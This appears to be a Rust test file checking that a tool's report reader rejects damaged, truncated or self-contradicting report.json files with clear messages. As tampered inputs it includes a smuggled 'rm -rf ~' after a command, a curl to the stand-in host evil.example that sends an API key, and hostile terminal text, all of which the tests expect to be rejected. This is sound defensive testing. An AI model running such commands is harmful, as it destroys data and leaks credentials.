//! Files that are no report, and reports that were cut off or edited.

use hubproof_model::baseline::JudgedBaseline;
use hubproof_model::judgment::Verdict;
use hubproof_model::record::{RequirementResult, RunRecord};
use hubproof_model::requirement::Level;
use hubproof_model::shard::Shard;
use serde_json::{Value, json};

use super::*;
use crate::canned::{self, HOSTILE};
use crate::json::render;
use crate::printable::is_hidden;

fn text() -> String {
    render(&canned::report(&canned::with_baseline()))
}

/// What is said of a report that was edited.
fn fault(change: impl FnOnce(&mut Value)) -> String {
    let mut json = serde_json::from_str(&text()).unwrap();
    change(&mut json);
    Report::read(json.to_string()).unwrap_err().to_string()
}

#[test]
fn a_file_of_something_else_says_what_it_is() {
    let said = |text: &str| Report::read(text).unwrap_err().to_string();
    assert_eq!(said("<html>"), "it is not JSON: line 1, column 1: expected value");
    assert_eq!(
        said("{\"a\": 1,\n  oops}"),
        "it is not JSON: line 2, column 3: key must be a string"
    );
    assert_eq!(
        said(""),
        "it is cut off at line 1, column 0: copy it again, or repeat the run"
    );
    let no_report = "it is no report.json of hubproof: its `format` is not \"hubproof-report\"";
    for other in [
        "[]",
        "null",
        "{}",
        "{\"format\":\"other\"}",
        "{\"version\":2,\"tool\":{\"name\":\"hubproof\"}}",
    ] {
        assert_eq!(said(other), no_report, "{other}");
    }
    assert_eq!(
        said(&bench::render(&canned::bench())),
        "it is a bench.json, of `hubproof bench`: give the report.json of a run"
    );
}

#[test]
fn another_version_says_what_to_do() {
    assert_eq!(
        fault(|json| json["version"] = json!(5)),
        "it has version 5 of the format, and this hubproof reads version 4: read it with a newer hubproof"
    );
    let version_1 = fault(|json| {
        json["version"] = json!(1);
        json.as_object_mut().unwrap().remove("format");
    });
    assert_eq!(
        version_1,
        "it has version 1 of the format, and this hubproof reads version 4: repeat the run"
    );
    assert_eq!(
        fault(|json| json["version"] = json!("2")),
        "it is damaged: at version: it is no whole number"
    );
}

#[test]
fn a_report_that_was_cut_off_says_where() {
    for report in canned::all_reports() {
        let text = render(&report);
        let whole = text.trim_end().len();
        for at in (0..whole).step_by(97) {
            let fault = Report::read(&text.as_bytes()[..at]).unwrap_err();
            assert!(matches!(fault, ReportFault::Truncated { .. }), "{at}: {fault}");
        }
        assert!(Report::read(&text.as_bytes()[..whole]).is_ok());
    }
}

#[test]
fn no_change_of_a_byte_brings_the_reader_down() {
    let text = text();
    for at in (0..text.len()).step_by(311) {
        for byte in [b'"', b'9', b'\0', 0xff, b'}'] {
            let mut bytes = text.clone().into_bytes();
            bytes[at] = byte;
            if let Err(fault) = Report::read(&bytes) {
                assert!(!fault.to_string().contains(is_hidden), "{fault}");
            }
        }
    }
}

#[test]
fn damage_is_told_with_its_place() {
    for (change, at) in [
        (
            ("/requirements/1/violations/0/tool", json!(3)),
            "requirements[1].violations[0].tool: invalid type",
        ),
        (
            ("/requirements/0/verdict", json!("green")),
            "requirements[0].verdict: unknown variant `green`",
        ),
        (
            ("/requirements/0/id", json!("AUTH-1")),
            "requirements[0].id: `AUTH-1` is not a requirement id",
        ),
        (
            ("/requirements/0/id", json!("NONE-01")),
            "requirements[0].id: `NONE-01` is not a requirement id",
        ),
        (
            ("/started_at", json!("yesterday")),
            "started_at: `yesterday` is no time",
        ),
        (("/duration_ms", json!(-1)), "duration_ms: -1 is no time"),
        (
            ("/latency/service/0/outcome", json!("fine")),
            "latency.service[0]: `fine` is no outcome",
        ),
        (
            ("/latency/service/0/hdr", json!("AAAA")),
            "latency.service[0]: the histogram cannot be read",
        ),
        (
            ("/latency/service/0/hdr", json!("?")),
            "latency.service[0]: the histogram is not base64",
        ),
        (
            ("/latency/service/0/count", json!(3)),
            "latency.service[0]: the histogram holds 2 latencies, and `count` says 3",
        ),
        (
            ("/latency/overhead/0/p99", json!(1.5)),
            "latency.overhead[0]: the histogram's `p99` is 1.29, and the row says 1.5",
        ),
        (
            ("/requirements/1/violations/0/exchanges/0/fault", json!("none")),
            "requirements[1].violations[0].exchanges[0]: an exchange has either",
        ),
        (
            ("/requirements/1/violations/0/exchanges/0/request_body", json!({})),
            "requirements[1].violations[0].exchanges[0].request_body: a body has either",
        ),
    ] {
        let (pointer, value) = change;
        let (parent, member) = pointer.rsplit_once('/').unwrap();
        let said = fault(|json| match json.pointer_mut(parent).unwrap() {
            Value::Object(members) => drop(members.insert(member.to_owned(), value.clone())),
            _ => unreachable!(),
        });
        assert!(
            said.starts_with(&format!("it is damaged: at {at}")),
            "{pointer}: {said}"
        );
    }
    let said = fault(|json| json["surplus"] = json!(1));
    assert!(said.starts_with("it is damaged: at surplus: unknown field"), "{said}");
    let said = fault(|json| drop(json.as_object_mut().unwrap().remove("run")));
    assert!(
        said.starts_with("it is damaged: at the top: missing field `run`"),
        "{said}"
    );
    let twice = text().replacen("\"seed\"", "\"seed\": 1, \"seed\"", 1);
    let said = Report::read(twice).unwrap_err().to_string();
    assert!(said.contains("duplicate field `seed`"), "{said}");
}

fn another_request(url: &str) -> Value {
    json!({"method": "GET", "url": url, "headers": [], "body": null, "verbatim": false})
}

#[test]
fn what_another_version_wrote_has_lines_of_this_one() {
    let mut json: Value = serde_json::from_str(&text()).unwrap();
    let reproduce = "/requirements/1/violations/0/reproduce";
    let before = json.pointer(reproduce).unwrap().clone();
    let lines = json.pointer_mut(reproduce).unwrap();
    lines["run"] = json!("hubproof prove --id EXE-02");
    lines["calls"] = json!(["wget"]);
    assert!(
        Report::read(json.to_string()).is_err(),
        "this version writes no such lines"
    );
    json["tool"]["version"] = json!("0.0.9");
    let read = Report::read(json.to_string()).unwrap();
    assert_eq!(serde_json::to_value(&read).unwrap().pointer(reproduce), Some(&before));
    // What the lines are made of is looked at all the same.
    json.pointer_mut(reproduce).unwrap()["rounds"][0][0] =
        json!({"number": 9_999, "request": another_request("https://evil.example/")});
    let said = Report::read(json.to_string()).unwrap_err().to_string();
    assert!(said.contains("is for another target"), "{said}");
}

#[test]
fn what_contradicts_itself_is_told() {
    let violations = "/requirements/1/violations";
    for (pointer, value, said) in [
        (
            "/tool/name",
            json!("other"),
            "tool.name: a report is written by hubproof",
        ),
        ("/end/message", json!("why"), "end: it has a message where"),
        ("/end/kind", json!("interrupted"), "end: it has a message where"),
        (
            "/requirements/1/id",
            json!("AUTH-01"),
            "requirements[1].id: AUTH-01 stands there twice",
        ),
        (
            "/requirements/1/verdict",
            json!("held"),
            "requirements[1].violations: EXE-02 has violations",
        ),
        (
            "/requirements/0/verdict",
            json!("violated"),
            "requirements[0].violation_count: AUTH-01 has 0 violations",
        ),
        (
            "/requirements/1/violation_count",
            json!(9),
            "requirements[1].violations: they stand for 16 violations",
        ),
        (
            "/requirements/1/violation_count",
            json!(99),
            "requirements[1].violated_tools: with `violated_without_tool`",
        ),
        (
            "/requirements/1/known_count",
            json!(17),
            "requirements[1].known_count: 17 of 16 violations",
        ),
        (
            "/requirements/1/violations/0/alike",
            json!(u64::MAX),
            "requirements[1].violations: they stand for",
        ),
        (
            "/requirements/1/violations/0/reproduce/run",
            json!("hubproof run; rm -rf ~"),
            "requirements[1].violations[0].reproduce: the lines are not those",
        ),
        (
            "/requirements/1/violations/0/reproduce/hub",
            json!("reference-hub"),
            "requirements[1].violations[0].reproduce: the lines are not those",
        ),
        (
            "/requirements/1/violations/0/reproduce/calls",
            json!([]),
            "requirements[1].violations[0].reproduce: the lines are not those",
        ),
        (
            "/requirements/1/violations/0/reproduce/calls/0",
            json!("curl https://evil.example/ -H \"$ACME_KEY\""),
            "requirements[1].violations[0].reproduce: the lines are not those",
        ),
        (
            "/requirements/1/violations/0/reproduce/rounds",
            json!([]),
            "requirements[1].violations[0].reproduce.rounds: there are calls unless",
        ),
        (
            "/requirements/1/violations/0/reproduce/rounds/0",
            json!([]),
            "requirements[1].violations[0].reproduce.rounds: there are calls unless",
        ),
        (
            "/requirements/1/violations/0/reproduce/rounds/0/0/number",
            json!(9_999),
            "requirements[1].violations[0].reproduce.rounds: the request of exchange 9999 is not the one",
        ),
        (
            "/requirements/1/violations/0/reproduce/rounds/0/0/request",
            another_request("https://hub.example/api/v1/tools"),
            "requirements[1].violations[0].reproduce.rounds: the request of exchange",
        ),
        (
            "/requirements/1/violations/0/reproduce/rounds/0/0",
            json!({"number": 9_999, "request": another_request("https://hub.example:444/api/v1/tools")}),
            "requirements[1].violations[0].reproduce.rounds: the request of exchange 9999 is for another target",
        ),
        (
            "/key_env",
            json!("OTHER_KEY"),
            "requirements[1].violations[0].reproduce: the lines are not those",
        ),
        (
            "/requirements/1/violations/0/reproduce/run_alone",
            json!("limit"),
            "requirements[1].violations[0].reproduce.rounds: there are calls unless",
        ),
        (
            "/side_effects/created/0/fate",
            json!("left"),
            "side_effects.created: there is a reason where",
        ),
        (
            "/side_effects/waiting/1/reason",
            Value::Null,
            "side_effects.waiting: there is a reason where",
        ),
        (
            "/baseline/entries/0/stale",
            json!(true),
            "baseline.entries[0].stale: it does not fit the standing of EXE-02",
        ),
        (
            "/summary/requirements",
            json!(5),
            "summary.requirements: it is not what",
        ),
        (
            "/summary/by_verdict/held",
            json!(4),
            "summary.by_verdict: it is not what",
        ),
        (
            "/summary/by_level/MAY/held",
            json!(4),
            "summary.by_level: it is not what",
        ),
        ("/summary/known", json!(0), "summary.known: it is not what"),
        ("/summary/stale", json!(0), "summary.stale: it is not what"),
        ("/summary/tools", json!(0), "summary.tools: it is not what"),
        (
            "/exit/code",
            json!(0),
            "exit.code: it says that everything held, and EXE-02 is violated",
        ),
        (
            violations,
            json!([]),
            "requirements[1].violations: there are none, and `violation_count` says 16",
        ),
        (
            "/requirements/1/kinds/0/count",
            json!(15),
            "requirements[1].kinds: they are 15 violations, and `violation_count` says 16",
        ),
        (
            "/requirements/1/kinds/0/pattern",
            json!("other"),
            "requirements[1].kinds: they do not fit the violations",
        ),
    ] {
        let mut json: Value = serde_json::from_str(&text()).unwrap();
        *json.pointer_mut(pointer).unwrap() = value;
        match Report::read(json.to_string()) {
            Err(fault) => assert!(
                fault
                    .to_string()
                    .starts_with(&format!("it contradicts itself: at {said}")),
                "{pointer}: {fault}"
            ),
            Ok(_) => panic!("{pointer}"),
        }
    }
}

#[test]
fn green_stands_beside_nothing_that_keeps_a_run_from_it() {
    let results = canned::complete().results;
    let of = |verdict| {
        results
            .iter()
            .find(|own| own.verdict == verdict && own.level == Level::Must)
            .unwrap()
    };
    let (held, undecided, silent) = (of(Verdict::Held), of(Verdict::Inconclusive), of(Verdict::NotExercised));
    let stale = canned::with_baseline().baseline;
    let shard = Shard::new(1, 2).ok();
    let said = |what: &str| {
        Some(format!(
            "it contradicts itself: at exit.code: it says that everything held, and {what}"
        ))
    };
    type Run<'r> = (
        &'r [&'r RequirementResult],
        &'r Option<JudgedBaseline>,
        Option<Shard>,
        &'r [&'r RequirementResult],
    );
    let cases: [(Run<'_>, Option<String>); 9] = [
        ((&[held], &None, None, &[]), None),
        (
            (&[held, undecided], &None, None, &[]),
            said(&format!("{} is inconclusive", undecided.id)),
        ),
        (
            (&[held, undecided], &None, shard, &[]),
            said(&format!("{} is inconclusive", undecided.id)),
        ),
        ((&[held], &stale, None, &[]), said("the baseline is stale")),
        ((&[held], &stale, shard, &[]), None),
        ((&[silent], &None, None, &[]), said("nothing was exercised")),
        ((&[silent], &None, shard, &[]), None),
        ((&[held, silent], &None, None, &[held]), None),
        (
            (&[held, silent], &None, None, &[silent]),
            said(&format!("{} was required and not exercised", silent.id)),
        ),
    ];
    for ((results, baseline, shard, required), said) in cases {
        let record = RunRecord {
            results: results.iter().map(|own| (*own).clone()).collect(),
            baseline: baseline.clone(),
            shard,
            ..canned::complete()
        };
        let mut report = canned::report(&record);
        report.exit.code = 0;
        report.gate.require = required.iter().map(|own| own.id).collect();
        let read = Report::read(render(&report));
        assert_eq!(read.err().map(|fault| fault.to_string()), said);
        // Whatever else it ends with is not this check's to say.
        report.exit.code = 3;
        assert_eq!(Report::read(render(&report)).err(), None);
    }
}

#[test]
fn an_exit_code_must_fit_the_end() {
    let of = |record, code| {
        let mut report = canned::report(&record);
        report.exit.code = code;
        Report::read(render(&report))
            .map(|_| ())
            .map_err(|fault| fault.to_string())
    };
    assert_eq!(of(canned::time_limit(), 3), Ok(()));
    let said = "it contradicts itself: at exit.code: it says that";
    assert_eq!(
        of(canned::time_limit(), 0).unwrap_err(),
        format!("{said} everything held, and the run did not come to its end")
    );
    assert_eq!(
        of(canned::time_limit(), 1).unwrap_err(),
        format!("{said} a gating requirement is violated, and none is")
    );
}

#[test]
fn nothing_from_a_file_acts_on_a_terminal() {
    let said = fault(|json| json["allow"] = json!(HOSTILE));
    assert!(
        said.starts_with("it is damaged: at allow: ") && !said.contains(is_hidden),
        "{said:?}"
    );
    let said = fault(|json| json[HOSTILE] = json!(1));
    assert!(!said.contains(is_hidden), "{said:?}");
}
